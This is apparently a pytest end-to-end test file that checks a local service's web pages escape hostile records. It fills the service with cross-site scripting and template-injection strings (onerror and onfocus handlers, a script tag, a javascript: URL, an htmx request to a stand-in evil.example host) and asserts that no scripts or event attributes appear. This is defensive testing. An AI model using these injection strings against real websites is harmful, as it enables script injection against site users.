"""Records that are made to do something, in a real browser: no script runs, no request leaves, nothing is blocked.

What the policy would have blocked is in the browser's log too, and fails the test (conftest.py): escaping alone has to
be enough.
"""

from __future__ import annotations

import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from daemon.reconstitute.unfinished import MOST_SESSIONS
from tests.e2e.talk import Talk
from tests.hostile.payloads import payloads
from tests.support.processes.daemon_process import Daemon
from tests.support.stores.make_opencode import JsonStore
from tests.web.browser import Browser, missing

MARKUP: list[str] = tomllib.loads((Path(__file__).parents[1] / "hostile" / "markup.toml").read_text())["payload"]
QUERIES = [
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",
    '<b hx-get="//evil.example" hx-trigger="load">heron</b>',
    "{{ 7 * 7 }}",
    "javascript:alert(1)",
]


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Daemon]:
    """A service whose every title, folder, prompt, answer, tool call and output is hostile."""
    if reason := missing():
        pytest.skip(reason)
    root = tmp_path_factory.mktemp("hostile")
    store = JsonStore(root / "oc")
    for number, text in enumerate([*MARKUP, *QUERIES, *(p.text[:2000] for p in payloads(root))]):
        place, title = f"/home/dev/{text.replace('/', '∕')[:80]}", f"heron {text[:200]}"
        talk = Talk(store, f"ses_h{number}", place, title)
        talk.ask(f"heron {text}")
        talk.write(f"/home/dev/h/{text.replace('/', '∕')[:80]}", f"heron {text}\n")
        talk.call("bash", {"command": f"echo heron {text}"}, f"heron {text}")
        talk.answer(f"heron {text}")
        hour_ago = int(time.time() - 3600) * 1000  # what is open is told of the last week
        late = Talk(store, f"ses_o{number}", place, f"ibis {text[:200]}", began=hour_ago)
        late.ask("Begin.")
        late.answer("Begun.")
        late.ask(f"ibis {text}")
    tables = {"web": {"port": 0}, "embedding": {"what": "none"}}
    with Daemon(root / "oc", root / "ours", tables=tables, make_data_dir=False) as daemon:
        daemon.run()
        written = len(list((root / "oc").glob("storage/message/*/*.json")))
        daemon.until_status(
            lambda status: status["archive"]["messages"] == written and not any(status["outbox"].values()),
            "everything to be read and indexed",
        )
        yield daemon


def test_latest_sessions(browser: Browser) -> None:
    browser.open("/")
    assert len(browser.all("#results [data-item]")) == 20
    assert "ibis" in browser.text("#results")


def test_results_down_to_the_last(browser: Browser) -> None:
    def is_at_the_end() -> bool:
        browser.run("window.scrollTo(0, document.body.scrollHeight)")
        return not browser.all("#results [hx-get]")

    browser.open("/?q=heron&sort=newest")
    browser.until(is_at_the_end, "the end of the list")
    assert len(browser.all("#results [data-key]")) > 3 * len(MARKUP)
    for summary in browser.all("#results summary")[:20]:
        browser.run("arguments[0].click()", summary)
    holds_no_markup(browser)


@pytest.mark.parametrize("query", QUERIES)
def test_a_query_that_is_typed(browser: Browser, query: str) -> None:
    browser.open("/")
    browser.type("input[name=q]", query)
    browser.until(lambda: browser.driver.title.startswith(query), "the results")
    browser.driver.refresh()
    assert browser.find("input[name=q]").get_attribute("value") == query


@pytest.mark.parametrize(
    "page",
    [
        "/folder?path=/home/dev/h",
        "/folder/files?path=/home/dev",
        "/folder/files?path=/home/dev/h&lost=1",
        "/folder/restore?path=/home/dev/h",
        "/forget?name=/home/dev/h",
        "/history?day=2026-11-21",
        "/today",
        "/status",
        "/status/doctor",
    ],
)
def test_folders_days_and_the_status(browser: Browser, page: str) -> None:
    browser.open(page)
    assert browser.find("h1").is_displayed()
    for summary in browser.all("main summary")[:20]:
        browser.run("arguments[0].click()", summary)
    holds_no_markup(browser)


def holds_no_markup(browser: Browser) -> None:
    """Nor attributes: none of a record's, such as onerror, has become one."""
    found = browser.run("return [...document.querySelectorAll('main script, main img, main iframe, main svg')].length")
    assert found == 0
    script = "return [...document.querySelectorAll('main *')].flatMap((e) => e.getAttributeNames())"
    assert not {name for name in browser.run(script) if name.startswith("on")}


def test_what_is_open(browser: Browser) -> None:
    browser.open("/today/open")
    browser.find("main h1")
    points = browser.texts("main [data-item]")
    assert len(points) > MOST_SESSIONS / 2  # of the newest ones
    assert any("<" in point for point in points)
    holds_no_markup(browser)


@pytest.mark.parametrize("name", QUERIES)
def test_a_folder_with_a_hostile_name(browser: Browser, name: str) -> None:
    path = quote(f"/home/dev/{name.replace('/', '∕')[:80]}")
    for page in (
        f"/folder?path={path}",
        f"/folder/files?path={path}",
        f"/forget?name={path}",
        f"/folder/run?path={path}",
    ):
        browser.open(page)
        assert browser.find("h1").is_displayed()
